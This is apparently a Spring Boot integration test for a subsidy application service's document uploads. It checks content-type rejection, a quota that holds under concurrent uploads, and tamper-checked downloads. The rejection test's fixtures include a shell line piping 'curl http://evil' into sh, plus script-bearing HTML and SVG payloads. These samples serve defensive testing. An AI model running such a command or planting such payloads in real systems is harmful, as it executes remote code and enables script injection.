package vn.subsidyflow.web.application;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import vn.subsidyflow.web.support.Api;
import vn.subsidyflow.web.support.Scenario;

/** Uploads are taken for what their content is, within a per-dossier quota, and served only intact. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("demo")
class DocumentUploadIntegrationTests {

    private static final String PDF = "application/pdf";

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;

    Scenario scenario;

    @BeforeEach
    void setUp() {
        scenario = Scenario.create(port, 100_000_000L, 0, 0);
    }

    @Test
    void shouldRefuseExecutablesPagesAndScriptsSentAsPdfAndStoreNothing() {
        Api applicant = scenario.newApplicant();
        long id = scenario.draft(applicant, scenario.iso, 40_000_000L);
        String path = "/api/v1/applications/" + id + "/documents";

        List<byte[]> hostile = List.of(
                "\u007fELF\u0002\u0001\u0001\u0000".getBytes(StandardCharsets.ISO_8859_1),
                "MZ\u0090\u0000\u0003\u0000\u0000\u0000".getBytes(StandardCharsets.ISO_8859_1),
                "#!/bin/sh\ncurl http://evil | sh\n".getBytes(StandardCharsets.UTF_8),
                "<!DOCTYPE html><html><body><script>fetch('/api/v1/applications')</script>".getBytes(StandardCharsets.UTF_8),
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".getBytes(StandardCharsets.UTF_8));
        for (byte[] content : hostile) {
            Api.Response refused = applicant.upload(path, "INVOICE", "invoice.pdf", PDF, content);
            assertThat(refused.status()).as(refused.toString()).isEqualTo(422);
            assertThat(refused.code()).isEqualTo("UNSUPPORTED_DOCUMENT_TYPE");
            assertThat(refused.header("Content-Type")).contains("application/problem+json");
        }
        Api.Response png = applicant.upload(path, "INVOICE", "invoice.pdf", PDF, pngBytes());
        assertThat(png.status()).isEqualTo(422);
        assertThat(png.code()).isEqualTo("DOCUMENT_TYPE_MISMATCH");
        assertThat(documents(id)).isZero();

        // The README's demo upload is still taken, and a name without our extension gets the right one.
        Api.Response demo = applicant.upload(path, "INVOICE", "doc", PDF, "%PDF-1.4 demo".getBytes(StandardCharsets.UTF_8));
        assertThat(demo.status()).as(demo.toString()).isEqualTo(201);
        assertThat(demo.text("fileName")).isEqualTo("doc.pdf");
        assertThat(documents(id)).isOne();
    }

    @Test
    void shouldTakeNoMoreDocumentsThanTheQuotaEvenWhenUploadsRace() throws Exception {
        Api applicant = scenario.newApplicant();
        long id = scenario.draft(applicant, scenario.iso, 40_000_000L);
        String path = "/api/v1/applications/" + id + "/documents";
        byte[] pdf = "%PDF-1.4 page".getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < 46; i++) {
            assertThat(applicant.upload(path, "INVOICE", "p" + i + ".pdf", PDF, pdf).status()).isEqualTo(201);
        }

        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Future<Api.Response>> racing = new ArrayList<>();
            for (int i = 0; i < 8; i++) {
                String name = "race" + i + ".pdf";
                racing.add(pool.submit((Callable<Api.Response>) () -> applicant.upload(path, "INVOICE", name, PDF, pdf)));
            }
            int created = 0;
            for (Future<Api.Response> future : racing) {
                Api.Response response = future.get();
                if (response.status() == 201) {
                    created++;
                } else {
                    assertThat(response.status()).as(response.toString()).isEqualTo(422);
                    assertThat(response.code()).isEqualTo("DOCUMENT_QUOTA_EXCEEDED");
                }
            }
            assertThat(created).isEqualTo(4);
        } finally {
            pool.shutdownNow();
        }
        assertThat(documents(id)).isEqualTo(50);
        Api.Response over = applicant.upload(path, "INVOICE", "one-more.pdf", PDF, pdf);
        assertThat(over.code()).isEqualTo("DOCUMENT_QUOTA_EXCEEDED");
        assertThat(over.body().path("maxDocuments").asInt()).isEqualTo(50);
    }

    @Test
    void shouldServeADocumentAsAnAttachmentOnlyWhileItsContentMatchesTheStoredHash() {
        Api applicant = scenario.newApplicant();
        long id = scenario.draft(applicant, scenario.iso, 40_000_000L);
        String path = "/api/v1/applications/" + id + "/documents";
        long documentId = applicant.upload(path, "INVOICE", "invoice.pdf", PDF,
                "%PDF-1.4 invoice".getBytes(StandardCharsets.UTF_8)).number("id");

        HttpResponse<byte[]> intact = download(applicant, path + "/" + documentId);
        assertThat(intact.statusCode()).isEqualTo(200);
        assertThat(new String(intact.body(), StandardCharsets.UTF_8)).isEqualTo("%PDF-1.4 invoice");
        assertThat(intact.headers().firstValue("Content-Disposition").orElse("")).startsWith("attachment");
        assertThat(intact.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(intact.headers().firstValue("Content-Security-Policy").orElse("")).contains("default-src 'none'", "sandbox");

        jdbc.update("UPDATE application_document SET content = ? WHERE id = ?",
                "%PDF-1.4 forged".getBytes(StandardCharsets.UTF_8), documentId);
        HttpResponse<byte[]> corrupted = download(applicant, path + "/" + documentId);
        assertThat(corrupted.statusCode()).isEqualTo(503);
        assertThat(corrupted.headers().firstValue("Content-Type").orElse("")).contains("application/problem+json");
        assertThat(new String(corrupted.body(), StandardCharsets.UTF_8)).contains("\"code\":\"DOCUMENT_CORRUPTED\"")
                .doesNotContain("forged");
    }

    private static HttpResponse<byte[]> download(Api applicant, String path) {
        return applicant.get(path).raw();
    }

    private long documents(long applicationId) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM application_document WHERE application_id = ?", Long.class, applicationId);
    }

    private static byte[] pngBytes() {
        return new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
    }
}
